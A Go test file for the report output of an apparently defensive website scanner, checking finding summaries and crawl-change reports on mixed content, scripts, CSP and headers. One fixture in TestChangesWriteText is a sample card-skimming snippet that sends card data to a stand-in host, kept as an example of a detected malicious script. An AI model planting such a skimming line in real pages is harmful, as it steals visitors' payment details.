package report

import (
	"bytes"
	"strings"
	"testing"

	"github.com/padlock-scan/padlock/rules"
)

func TestWriteSummary(t *testing.T) {
	t.Parallel()
	r := &Report{Findings: []Finding{
		{Rule: "mixed-content-blockable", Severity: rules.Error, Page: "https://s.test/", URL: "http://cdn.test/a.js", Baseline: BaselineNew},
		{Rule: "mixed-content-blockable", Severity: rules.Error, Page: "https://s.test/b", URL: "http://cdn.test/a.js", Baseline: BaselineKnown,
			Suppressed: &Suppression{Reason: "accepted"}},
		{Rule: "insecure-link", Severity: rules.Info, Page: "https://s.test/", URL: "http://x.test/", Baseline: BaselineNew},
		// A warning rule escalated on a payment page: its errors get their own row.
		{Rule: "third-party-script", Severity: rules.Error, Page: "https://s.test/pay", URL: "https://cdn.test/x.js", Baseline: BaselineNew},
		{Rule: "third-party-script", Severity: rules.Warning, Page: "https://s.test/", URL: "https://cdn.test/x.js", Baseline: BaselineKnown},
		{Rule: "third-party-script", Severity: rules.Warning, Page: "https://s.test/b", URL: "https://cdn.test/x.js", Baseline: BaselineKnown},
	}, Fixed: []Finding{{Rule: "insecure-form"}}}
	r.Stats.NotCrawled = 3
	r.Finish()
	for _, tc := range []struct {
		baseline  bool
		want, not []string
	}{
		{false, []string{
			"padlock: 0 pages, 0 resources, 0 requests, 6 findings, 0 crawl errors\n",
			"  rule                       severity   count suppressed\n",
			"  insecure-link              info           1          0\n",
			"  mixed-content-blockable    error          2          1\n",
			"  third-party-script         error          1          0\n  third-party-script         warning        2          0\n",
			"padlock: 1 insecure URLs to fix (see the report's fix list;",
			"padlock: --max-pages reached; 3 queued URLs were not crawled\n",
		}, []string{"baseline", " new"}},
		{true, []string{
			"  rule                       severity   count suppressed   new\n",
			"  mixed-content-blockable    error          2          1     1\n",
			"  third-party-script         error          1          0     1\n  third-party-script         warning        2          0     0\n",
			"padlock: against the baseline: 3 new, 1 fixed\n",
		}, nil},
	} {
		var b bytes.Buffer
		if err := WriteSummary(&b, r, tc.baseline); err != nil {
			t.Fatal(err)
		}
		for _, w := range tc.want {
			if !strings.Contains(b.String(), w) {
				t.Errorf("baseline %v: summary lacks %q:\n%s", tc.baseline, w, b.String())
			}
		}
		for _, w := range tc.not {
			if strings.Contains(b.String(), w) {
				t.Errorf("baseline %v: summary has %q:\n%s", tc.baseline, w, b.String())
			}
		}
	}
}

func TestChangesWriteText(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	if err := (&Changes{}).WriteText(&b); err != nil || b.String() != "no changes\n" {
		t.Errorf("empty changes: %q, %v", b.String(), err)
	}
	ch := &Changes{
		Site: "https://s.test/", Old: "2026-11-30T03:00:00Z", New: "2026-12-07T03:00:00Z",
		ScriptsAdded: []Script{{Kind: "inline", SHA256: "0123456789abcdef0123"}, {URL: "https://cdn.test/a.js", PaymentPages: []string{"p"}},
			{Kind: "inline", SHA256: "fedcba9876543210fedc", PageCount: 3, Pages: []string{"https://s.test/", "https://s.test/a", "https://s.test/pay"},
				PaymentPages: []string{"https://s.test/pay"}, Line: 12, Snippet: "fetch('https://skim.test/?'+card)"}},
		// one CSP change on two pages is one change; another on a third page is another
		CSPChanged: []HeaderChange{
			{Page: "https://s.test/a", Old: []string{"script-src 'self'"}, New: []string{}},
			{Page: "https://s.test/b", Old: []string{"script-src 'self'"}, New: []string{}},
			{Page: "https://s.test/c", Old: []string{}, New: []string{"default-src 'none'"}},
		},
		ScriptsRemoved: []Script{{URL: "https://cdn.test/c.js", PaymentPages: []string{"p", "q"}}},
		ScriptsChanged: []ScriptChange{{URL: "https://cdn.test/b.js", OldSHA256: "aaaaaaaaaaaaaaaa", NewSHA256: "bbb"}},
		NewFindings: []Finding{
			{Rule: "sri-missing", Severity: rules.Warning, Page: "https://s.test/", URL: "https://cdn.test/a.js", Line: 4},
			// an origin finding has no line: none is printed, never "line 0"
			{Rule: "hsts-missing", Severity: rules.Warning, Page: "https://s.test/", URL: "https://s.test"},
		},
		PagesFailed: []PageFailure{{URL: "https://s.test/pay", Error: "HTTP 500"}},
	}
	b.Reset()
	if err := ch.WriteText(&b); err != nil {
		t.Fatal(err)
	}
	want := "site https://s.test/\n" +
		"old crawl started 2026-11-30T03:00:00Z, new crawl started 2026-12-07T03:00:00Z\n" +
		"! page https://s.test/pay no longer loads: HTTP 500\n" +
		"+ script inline sha256:0123456789abcdef0123\n" +
		"+ script https://cdn.test/a.js (on 1 payment page)\n" +
		"+ script inline sha256:fedcba9876543210fedc on payment page https://s.test/pay and 2 other pages, line 12 of https://s.test/: \"fetch('https://skim.test/?'+card)\"\n" +
		"- script https://cdn.test/c.js (on 2 payment pages)\n" +
		"~ script https://cdn.test/b.js: sha256 aaaaaaaaaaaaaaaa -> bbb\n" +
		"~ csp on 2 pages (https://s.test/a, https://s.test/b): \"script-src 'self'\" -> \"\"\n" +
		"~ csp https://s.test/c: \"\" -> \"default-src 'none'\"\n" +
		"+ warning sri-missing https://cdn.test/a.js (https://s.test/ line 4)\n" +
		"+ warning hsts-missing https://s.test (https://s.test/)\n" +
		"scripts: 3 added, 1 removed, 1 changed; 3 CSP, 0 header and 0 origin changes; findings: 2 new, 0 fixed; pages: 0 added, 0 removed, 1 failing\n"
	if b.String() != want {
		t.Errorf("text:\n%s\nwant:\n%s", b.String(), want)
	}
}
